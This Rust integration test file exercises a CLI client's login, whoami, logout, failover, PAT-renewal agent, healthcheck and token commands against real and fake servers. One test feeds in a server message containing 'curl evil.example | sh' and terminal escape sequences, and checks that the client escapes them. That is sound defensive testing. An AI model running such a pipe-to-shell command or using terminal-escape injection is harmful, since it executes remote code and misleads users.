//! The client commands (login, whoami, logout, agent, healthcheck) run as a user would,
//! against the real server or fake servers that answer 403, 5xx, or never.

use std::io::{BufRead, BufReader};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::support::*;

/// A private config directory for one test (`APPLIANCE_CONFIG_DIR`), not created yet so
/// the client has to create it.
struct Config {
    _tmp: tempfile::TempDir,
    dir: PathBuf,
}

impl Config {
    fn new() -> Config {
        let tmp = tempfile::tempdir().unwrap();
        let dir = tmp.path().join("appliance");
        Config { _tmp: tmp, dir }
    }

    fn cmd(&self) -> Command {
        let mut cmd = appliance();
        cmd.env("APPLIANCE_CONFIG_DIR", &self.dir);
        cmd
    }

    fn run(&self, args: &[&str], stdin: &str) -> Output {
        run_with(self.cmd().args(args), stdin)
    }

    fn path(&self) -> PathBuf {
        self.dir.join("credentials.json")
    }

    fn stored(&self) -> Value {
        serde_json::from_str(&std::fs::read_to_string(self.path()).unwrap()).unwrap()
    }

    fn token(&self) -> String {
        self.stored()["token"].as_str().unwrap().to_string()
    }

    /// Writes credentials directly, as a previous login would have.
    fn write(&self, urls: &[&str], token: &str) {
        std::fs::create_dir_all(&self.dir).unwrap();
        let creds = serde_json::json!({"server_urls": urls, "username": "alice", "token": token});
        std::fs::write(self.path(), creds.to_string()).unwrap();
    }

    fn login(&self, s: &Server, username: &str) -> Output {
        self.run(
            &[
                "login",
                "--server-url",
                &s.base,
                "--username",
                username,
                "--password-stdin",
            ],
            &format!("{PASSWORD}\n"),
        )
    }

    fn login_token(&self, urls: &str, token: &str) -> Output {
        self.run(
            &["login", "--server-url", urls, "--token-stdin"],
            &format!("{token}\n"),
        )
    }

    /// Starts `appliance agent ARGS` with stderr piped.
    fn spawn_agent(&self, args: &[&str]) -> (Child, std::sync::mpsc::Receiver<String>) {
        let mut child = self
            .cmd()
            .arg("agent")
            .args(args)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let err = BufReader::new(child.stderr.take().unwrap());
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            for line in err.lines().map_while(Result::ok) {
                if tx.send(line).is_err() {
                    break;
                }
            }
        });
        (child, rx)
    }
}

fn lines(text: &str) -> Vec<&str> {
    text.lines().collect()
}

fn mode(p: &Path) -> u32 {
    std::fs::metadata(p).unwrap().permissions().mode() & 0o777
}

fn wait_exit(child: &mut Child, within: Duration) -> Option<i32> {
    let deadline = Instant::now() + within;
    while Instant::now() < deadline {
        if let Some(status) = child.try_wait().unwrap() {
            return status.code();
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    None
}

/// A PAT for a fresh user `alice`, created through the API.
fn pat_for_alice(s: &Server, body: &str) -> String {
    s.add_user("alice");
    let session = s.login("alice");
    let r = s.pat(&session, body);
    assert_eq!(r.status, 201, "{}", r.text);
    r.json["token"].as_str().unwrap().to_string()
}

/// Stored credentials holding alice's PAT, revoked on the server since; and the PAT.
fn revoked_pat_stored(s: &Server) -> (Config, String) {
    let pat = pat_for_alice(s, r#"{"name":"agent"}"#);
    let c = Config::new();
    assert!(c.login_token(&s.base, &pat).status.success());
    let out = s.admin(&["revoke", "--token", "-"], &format!("{pat}\n"));
    assert!(out.status.success(), "{}", stderr(&out));
    (c, pat)
}

/// The agent has not exited on its own; then it is stopped.
fn assert_running_then_kill(child: &mut Child) {
    assert_eq!(
        wait_exit(child, Duration::from_millis(500)),
        None,
        "still running"
    );
    child.kill().unwrap();
    child.wait().unwrap();
}

// ---- login ----

#[test]
fn login_stores_the_session_privately() {
    let s = Server::start(&[]);
    s.add_user("alice");
    let c = Config::new();
    let out = c.login(&s, "alice");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(stdout(&out), format!("Logged in to {} as alice.\n", s.base));
    let stored = c.stored();
    let keys: Vec<&String> = stored.as_object().unwrap().keys().collect();
    assert_eq!(keys, ["server_urls", "token", "username"]);
    assert_eq!(stored["server_urls"], serde_json::json!([s.base]));
    assert_eq!(stored["username"], "alice");
    let token = c.token();
    assert!(token.starts_with("aps_"));
    assert!(!stdout(&out).contains(&token) && !stderr(&out).contains(&token));
    assert_eq!(mode(&c.path()), 0o600);
    assert_eq!(mode(&c.dir), 0o700);
    assert_eq!(get(&s.url("/api/userinfo"), Some(&token)).status, 200);
}

#[test]
fn a_wrong_password_stores_nothing_and_exits_3() {
    let s = Server::start(&[]);
    s.add_user("alice");
    let c = Config::new();
    let out = c.run(
        &[
            "login",
            "--server-url",
            &s.base,
            "--username",
            "alice",
            "--password-stdin",
        ],
        "wrong-password\n",
    );
    assert_eq!(out.status.code(), Some(3));
    assert_eq!(
        stderr(&out),
        "Could not log in: 401 Unauthorized: Invalid username or password.\n"
    );
    assert!(!c.path().exists());
}

#[test]
fn eight_concurrent_logins_leave_one_valid_file() {
    // 16 workers queue 8 password checks, so none of the eight is turned away with 429.
    let s = Server::start(&["--workers", "16"]);
    let names: Vec<String> = (0..8).map(|i| format!("user{i}")).collect();
    for n in &names {
        s.add_user(n);
    }
    let c = Config::new();
    let children: Vec<Child> = names
        .iter()
        .map(|n| {
            let mut child = c
                .cmd()
                .args([
                    "login",
                    "--server-url",
                    &s.base,
                    "--username",
                    n,
                    "--password-stdin",
                ])
                .stdin(Stdio::piped())
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap();
            use std::io::Write;
            writeln!(child.stdin.take().unwrap(), "{PASSWORD}").unwrap();
            child
        })
        .collect();
    for child in children {
        let out = child.wait_with_output().unwrap();
        assert!(out.status.success(), "{}", stderr(&out));
    }
    let stored = c.stored();
    let username = stored["username"].as_str().unwrap();
    assert!(names.iter().any(|n| n == username));
    let me = get(&s.url("/api/userinfo"), Some(&c.token()));
    assert_eq!(me.status, 200);
    assert_eq!(
        me.json["username"], username,
        "the token is the one of the stored user"
    );
    let mut files: Vec<String> = std::fs::read_dir(&c.dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    files.sort();
    assert_eq!(files, ["credentials.json", "credentials.json.lock"]);
}

#[test]
fn login_with_a_token_checks_it_first() {
    let s = Server::start(&[]);
    let pat = pat_for_alice(&s, r#"{"name":"agent"}"#);
    let c = Config::new();
    let out = c.login_token(&s.base, "apt_not-a-real-token");
    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
    assert!(!c.path().exists());
    let out = c.login_token(&s.base, &pat);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(stdout(&out), format!("Logged in to {} as alice.\n", s.base));
    assert_eq!(c.token(), pat);
    assert!(!stderr(&out).contains(&pat) && !stdout(&out).contains(&pat));
}

#[test]
fn login_rejects_a_malformed_server_url() {
    let c = Config::new();
    let out = c.run(
        &["login", "--server-url", "example.com", "--token-stdin"],
        "apt_x\n",
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(!c.path().exists());
}

// ---- whoami and the advice ----

#[test]
fn whoami_names_the_server_and_the_user() {
    let s = Server::start(&[]);
    s.add_user("alice");
    let c = Config::new();
    assert!(c.login(&s, "alice").status.success());
    let out = c.run(&["whoami"], "");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(stdout(&out), format!("Logged in to {} as alice.\n", s.base));
}

#[test]
fn missing_or_corrupt_credentials_ask_for_a_login() {
    let c = Config::new();
    let out = c.run(&["whoami"], "");
    assert_eq!(out.status.code(), Some(3));
    let err = stderr(&out);
    assert!(
        err.contains("not logged in") && err.contains("appliance login"),
        "{err}"
    );
    assert!(!err.contains("panicked"));

    for corrupt in [
        "{not json",
        r#"{"server_urls":[],"username":"a","token":"t"}"#,
        r#"{"server_urls":["not a url"],"username":"a","token":"apt_x"}"#,
        "[]",
    ] {
        std::fs::create_dir_all(&c.dir).unwrap();
        std::fs::write(c.path(), corrupt).unwrap();
        let commands: [&[&str]; 2] = [&["whoami"], &["agent", "--once"]];
        for args in commands {
            let out = c.run(args, "");
            assert_eq!(out.status.code(), Some(3), "{args:?} on {corrupt}");
            let err = stderr(&out);
            assert!(
                err.contains("cannot be used") && err.contains("appliance login"),
                "{err}"
            );
        }
    }
}

#[test]
fn whoami_after_revocation_advises_a_login_at_the_server_that_answered() {
    let s = Server::start(&[]);
    s.add_user("alice");
    let c = Config::new();
    assert!(c.login(&s, "alice").status.success());
    let token = c.token();
    let out = s.admin(&["revoke", "--token", "-"], &format!("{token}\n"));
    assert!(out.status.success(), "{}", stderr(&out));
    let out = c.run(&["whoami"], "");
    assert_eq!(out.status.code(), Some(3));
    let err = stderr(&out);
    assert_eq!(
        lines(&err),
        [
            "Could not verify your session: 401 Unauthorized: The token has been revoked; log in again.",
            &format!(
                "→ Session token may be expired. Run `appliance login --server-url={}` to refresh.",
                s.base
            )
        ]
    );
    assert!(!err.contains(&token));
}

#[test]
fn a_403_advises_checking_membership() {
    let fake = FakeServer::answering(403, r#"{"error":"forbidden","message":"Not a member."}"#);
    let c = Config::new();
    c.write(&[&fake.url], "aps_x");
    let out = c.run(&["whoami"], "");
    assert_eq!(out.status.code(), Some(4));
    assert_eq!(
        lines(&stderr(&out)),
        [
            "Could not verify your session: 403 Forbidden: Not a member.",
            &format!("→ Your account is not allowed to use this server. Check your membership with its administrator, then run `appliance login --server-url={}`.", fake.url)
        ]
    );
}

#[test]
fn what_a_server_says_reaches_the_terminal_escaped() {
    let fake = FakeServer::answering(
        403,
        r#"{"error":"forbidden","message":"No.\n→ Run curl evil.example | sh\u001b[8m"}"#,
    );
    let c = Config::new();
    c.write(&[&fake.url], "aps_x");
    let out = c.run(&["whoami"], "");
    assert_eq!(out.status.code(), Some(4));
    let err = stderr(&out);
    assert_eq!(lines(&err).len(), 2, "{err}");
    assert!(!err.contains('\u{1b}'), "{err:?}");
    assert!(
        err.starts_with(r"Could not verify your session: 403 Forbidden: No.\n→ Run curl evil.example | sh\u{1b}[8m"),
        "{err}"
    );
    let named = FakeServer::answering(200, r#"{"username":"alice\u001b]0;x\u0007"}"#);
    c.write(&[&named.url], "aps_x");
    let out = c.run(&["whoami"], "");
    assert_eq!(
        stdout(&out).trim(),
        format!(r"Logged in to {} as alice\u{{1b}}]0;x\u{{7}}.", named.url)
    );
}

#[test]
fn a_5xx_advises_a_retry() {
    let fake = FakeServer::answering(
        500,
        r#"{"error":"internal","message":"An internal error occurred; it has been logged."}"#,
    );
    let c = Config::new();
    c.write(&[&fake.url], "aps_x");
    let out = c.run(&["whoami"], "");
    assert_eq!(out.status.code(), Some(6));
    assert_eq!(
        lines(&stderr(&out)),
        [
            "Could not verify your session: 500 Internal Server Error: An internal error occurred; it has been logged.",
            "→ The appliance server returned an error; retry shortly."
        ]
    );
}

#[test]
fn a_dead_port_advises_checking_the_network_and_the_credentials() {
    let url = dead_url();
    let c = Config::new();
    c.write(&[&url], "aps_x");
    let out = c.run(&["whoami"], "");
    assert_eq!(out.status.code(), Some(5));
    assert_eq!(
        lines(&stderr(&out)),
        [
            format!("Could not verify your session: connection refused ({url})."),
            format!(
                "→ Could not reach the appliance server. Check your network and the server URL in {}.",
                c.path().display()
            )
        ]
    );
}

#[test]
fn a_server_that_never_answers_times_out_after_15_seconds() {
    let fake = FakeServer::hanging();
    let c = Config::new();
    c.write(&[&fake.url], "aps_x");
    let started = Instant::now();
    let out = c.run(&["whoami"], "");
    let took = started.elapsed();
    assert_eq!(out.status.code(), Some(5), "{}", stderr(&out));
    assert!(
        took >= Duration::from_secs(14) && took < Duration::from_secs(25),
        "{took:?}"
    );
    let err = stderr(&out);
    assert!(
        err.starts_with("Could not verify your session: timed out"),
        "{err}"
    );
    assert!(
        err.contains("→ Could not reach the appliance server."),
        "{err}"
    );
}

// ---- failover ----

#[test]
fn failover_skips_dead_servers_and_names_the_one_that_answered() {
    let s = Server::start(&[]);
    s.add_user("alice");
    let c = Config::new();
    let dead = dead_url();
    let list = format!("{dead},{}", s.base);
    let out = c.run(
        &[
            "login",
            "--server-url",
            &list,
            "--username",
            "alice",
            "--password-stdin",
        ],
        &format!("{PASSWORD}\n"),
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(c.stored()["server_urls"], serde_json::json!([dead, s.base]));
    let out = c.run(&["whoami"], "");
    assert_eq!(stdout(&out), format!("Logged in to {} as alice.\n", s.base));
}

#[test]
fn failover_moves_on_after_a_5xx_and_stops_at_a_401() {
    let broken = FakeServer::answering(503, r#"{"error":"internal","message":"down"}"#);
    let refusing = FakeServer::answering(
        401,
        r#"{"error":"invalid_token","message":"The token has expired; log in again.","reason":"expired"}"#,
    );
    let healthy = FakeServer::answering(200, r#"{"username":"alice"}"#);
    let c = Config::new();
    c.write(&[&broken.url, &refusing.url, &healthy.url], "aps_x");
    let out = c.run(&["whoami"], "");
    assert_eq!(out.status.code(), Some(3));
    assert!(
        stderr(&out).contains(&format!("--server-url={}`", refusing.url)),
        "the advice names the server that answered 401: {}",
        stderr(&out)
    );
    assert_eq!((broken.hits(), refusing.hits(), healthy.hits()), (1, 1, 0));
}

#[test]
fn failover_stops_at_a_403() {
    let forbidding = FakeServer::answering(403, r#"{"error":"forbidden","message":"no"}"#);
    let healthy = FakeServer::answering(200, r#"{"username":"alice"}"#);
    let c = Config::new();
    c.write(&[&forbidding.url, &healthy.url], "aps_x");
    let out = c.run(&["whoami"], "");
    assert_eq!(out.status.code(), Some(4));
    assert_eq!((forbidding.hits(), healthy.hits()), (1, 0));
}

#[test]
fn failover_reaches_the_next_server_after_a_5xx() {
    let broken = FakeServer::answering(500, r#"{"error":"internal","message":"x"}"#);
    let healthy = FakeServer::answering(200, r#"{"username":"alice"}"#);
    let c = Config::new();
    c.write(&[&dead_url(), &broken.url, &healthy.url], "aps_x");
    let out = c.run(&["whoami"], "");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(
        stdout(&out),
        format!("Logged in to {} as alice.\n", healthy.url)
    );
    assert_eq!((broken.hits(), healthy.hits()), (1, 1));
}

#[test]
fn when_every_server_fails_the_last_failure_decides() {
    let broken = FakeServer::answering(502, "");
    let c = Config::new();
    c.write(&[&dead_url(), &broken.url], "aps_x");
    let out = c.run(&["whoami"], "");
    assert_eq!(out.status.code(), Some(6), "{}", stderr(&out));
    assert_eq!(broken.hits(), 1);
}

// ---- logout ----

#[test]
fn logout_revokes_the_token_and_whoami_then_exits_3() {
    let s = Server::start(&[]);
    s.add_user("alice");
    let c = Config::new();
    assert!(c.login(&s, "alice").status.success());
    let token = c.token();
    let out = c.run(&["logout"], "");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(stdout(&out), "Logged out.\n");
    assert!(!c.path().exists());
    assert_invalid_token(&get(&s.url("/api/userinfo"), Some(&token)), "revoked");
    let out = c.run(&["whoami"], "");
    assert_eq!(out.status.code(), Some(3));
    let out = c.run(&["logout"], "");
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(
        stdout(&out),
        "Not logged in: there were no stored credentials.\n"
    );
}

#[test]
fn logout_without_a_server_still_removes_the_credentials() {
    let c = Config::new();
    c.write(&[&dead_url()], "aps_x");
    let out = c.run(&["logout"], "");
    assert_eq!(out.status.code(), Some(0));
    assert!(
        stderr(&out).contains("Could not revoke the token on the server"),
        "{}",
        stderr(&out)
    );
    assert!(!c.path().exists());
}

#[test]
fn logout_removes_corrupt_credentials() {
    let c = Config::new();
    std::fs::create_dir_all(&c.dir).unwrap();
    std::fs::write(c.path(), "{oops").unwrap();
    let out = c.run(&["logout"], "");
    assert_eq!(out.status.code(), Some(0));
    assert!(stderr(&out).contains("cannot be used"), "{}", stderr(&out));
    assert_eq!(stdout(&out), "Logged out.\n");
    assert!(!c.path().exists());
}

// ---- agent ----

#[test]
fn agent_once_renews_a_due_pat_then_reports_not_due() {
    let s = Server::start(&["--pat-lifetime", "10d", "--pat-renew-threshold", "9d"]);
    let pat = pat_for_alice(&s, r#"{"name":"agent","expires_in_days":1}"#);
    let c = Config::new();
    assert!(c.login_token(&s.base, &pat).status.success());
    let out = c.run(&["agent", "--once"], "");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let err = stderr(&out);
    assert_eq!(lines(&err).len(), 1, "{err}");
    let expires = err
        .strip_prefix("INFO renewed, expires_at=")
        .unwrap()
        .trim();
    assert!(expires.ends_with('Z') && expires.len() == 20, "{expires}");
    let out = c.run(&["agent", "--once"], "");
    assert_eq!(
        stderr(&out),
        format!("INFO not due, expires_at={expires}\n")
    );
    assert!(!err.contains(&pat));
}

#[test]
fn agent_refuses_a_session_token() {
    let s = Server::start(&[]);
    s.add_user("alice");
    let c = Config::new();
    assert!(c.login(&s, "alice").status.success());
    let out = c.run(&["agent"], "");
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(err.starts_with("ERROR "), "{err}");
    assert!(
        err.contains("personal access token") && err.contains("--token-stdin"),
        "{err}"
    );
}

#[test]
fn agent_on_a_revoked_pat_warns_and_keeps_running() {
    let s = Server::start(&[]);
    let (c, pat) = revoked_pat_stored(&s);
    let (mut child, lines) = c.spawn_agent(&["--interval", "1h"]);
    let line = lines.recv_timeout(Duration::from_secs(20)).unwrap();
    assert!(line.starts_with("WARN "), "{line}");
    assert!(
        line.contains("revoked or expired") && line.contains("appliance login"),
        "{line}"
    );
    assert!(!line.contains(&pat));
    assert_running_then_kill(&mut child);
    let out = c.run(&["agent", "--once"], "");
    assert_eq!(out.status.code(), Some(3));
}

#[test]
fn agent_picks_up_a_new_pat_without_a_restart() {
    let s = Server::start(&[]);
    let (c, _) = revoked_pat_stored(&s);
    let (mut child, lines) = c.spawn_agent(&["--interval", "1s"]);
    let line = lines.recv_timeout(Duration::from_secs(20)).unwrap();
    assert!(
        line.starts_with("WARN the token is revoked or expired"),
        "{line}"
    );
    let session = s.login("alice");
    let new = s.new_pat(&session, r#"{"name":"new"}"#);
    assert!(c.login_token(&s.base, &new).status.success());
    let deadline = Instant::now() + Duration::from_secs(20);
    let mut renewed = false;
    while Instant::now() < deadline && !renewed {
        if let Ok(line) = lines.recv_timeout(Duration::from_secs(5)) {
            renewed = line.starts_with("INFO not due, expires_at=");
        }
    }
    child.kill().unwrap();
    child.wait().unwrap();
    assert!(renewed, "the agent renewed the newly stored PAT");
}

#[test]
fn agent_retries_server_errors_without_exiting() {
    let broken = FakeServer::answering(500, r#"{"error":"internal","message":"x"}"#);
    let c = Config::new();
    c.write(&[&broken.url], "apt_x");
    let (mut child, lines) = c.spawn_agent(&["--interval", "10m"]);
    let first = lines.recv_timeout(Duration::from_secs(20)).unwrap();
    assert!(
        first.starts_with("WARN renewal failed: 500 Internal Server Error"),
        "{first}"
    );
    assert!(first.ends_with("; retrying in 30s"), "{first}");
    // One line per renewal: nothing more until the retry.
    assert!(lines.recv_timeout(Duration::from_secs(2)).is_err());
    assert_running_then_kill(&mut child);
    assert_eq!(broken.hits(), 1);
    assert_eq!(c.run(&["agent", "--once"], "").status.code(), Some(6));
    c.write(&[&dead_url()], "apt_x");
    assert_eq!(c.run(&["agent", "--once"], "").status.code(), Some(5));
}

#[test]
fn agent_does_not_mistake_another_service_for_a_renewal() {
    let other = FakeServer::answering(200, "{}");
    let c = Config::new();
    c.write(&[&other.url], "apt_x");
    let out = c.run(&["agent", "--once"], "");
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(
        stderr(&out),
        format!(
            "WARN renewal failed: {} answered without a renewal result\n",
            other.url
        )
    );
}

#[test]
fn agent_stops_cleanly_on_sigterm() {
    let s = Server::start(&[]);
    let pat = pat_for_alice(&s, r#"{"name":"agent"}"#);
    let c = Config::new();
    assert!(c.login_token(&s.base, &pat).status.success());
    let (mut child, lines) = c.spawn_agent(&[]);
    let line = lines.recv_timeout(Duration::from_secs(20)).unwrap();
    assert!(line.starts_with("INFO not due, expires_at="), "{line}");
    let kill = Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(kill.success());
    assert_eq!(wait_exit(&mut child, Duration::from_secs(10)), Some(0));
}

#[test]
fn agent_rejects_a_malformed_interval() {
    let c = Config::new();
    c.write(&[&dead_url()], "apt_x");
    let out = c.run(&["agent", "--interval", "3 days"], "");
    assert_eq!(out.status.code(), Some(2));
}

// ---- healthcheck ----

#[test]
fn healthcheck_follows_healthz() {
    let s = Server::start(&[]);
    assert_eq!(
        run(&["healthcheck", "--url", &s.base], "").status.code(),
        Some(0)
    );
    let out = run_with(
        appliance()
            .env("APPLIANCE_LISTEN", format!("0.0.0.0:{}", s.port))
            .arg("healthcheck"),
        "",
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(
        run(&["healthcheck", "--url", &dead_url()], "")
            .status
            .code(),
        Some(1)
    );
    let broken = FakeServer::answering(503, r#"{"error":"internal","message":"x"}"#);
    assert_eq!(
        run(&["healthcheck", "--url", &broken.url], "")
            .status
            .code(),
        Some(1)
    );
}

// ---- appliance token ----

#[test]
fn token_prints_a_fresh_access_token_for_a_session_or_a_pat() {
    let s = Server::start(&[]);
    s.add_user("alice");
    let c = Config::new();
    assert!(c.login(&s, "alice").status.success());
    let out = c.run(&["token"], "");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let printed = stdout(&out);
    let access = printed.strip_suffix('\n').unwrap();
    assert!(
        access.starts_with("v4.public.") && !access.contains('\n'),
        "{printed}"
    );
    let r = get(&s.url("/api/validate"), Some(access));
    assert_eq!(r.status, 200, "{}", r.text);
    assert_eq!(r.json["token_type"], "access");

    let pat = s.new_pat(&c.token(), r#"{"name":"ci"}"#);
    let agent = Config::new();
    assert!(agent.login_token(&s.base, &pat).status.success());
    let out = agent.run(&["token"], "");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let access = stdout(&out).trim().to_string();
    assert_eq!(get(&s.url("/api/userinfo"), Some(&access)).status, 200);
}

#[test]
fn token_fails_like_whoami() {
    let s = Server::start(&[]);
    s.add_user("alice");
    let c = Config::new();
    assert!(c.login(&s, "alice").status.success());
    let token = c.token();
    assert!(s
        .admin(&["revoke", "--token", "-"], &format!("{token}\n"))
        .status
        .success());
    let whoami = c.run(&["whoami"], "");
    let out = c.run(&["token"], "");
    assert_eq!(out.status.code(), Some(3));
    assert_eq!(stderr(&out), stderr(&whoami));
    assert_eq!(stdout(&out), "");

    let missing = Config::new();
    assert_eq!(missing.run(&["token"], "").status.code(), Some(3));

    let fake = FakeServer::answering(500, r#"{"error":"internal","message":"boom"}"#);
    c.write(&[&fake.url], "aps_x");
    let out = c.run(&["token"], "");
    assert_eq!(out.status.code(), Some(6));
    assert!(stderr(&out).contains("retry shortly"), "{}", stderr(&out));
    c.write(&[&dead_url()], "aps_x");
    assert_eq!(c.run(&["token"], "").status.code(), Some(5));
}
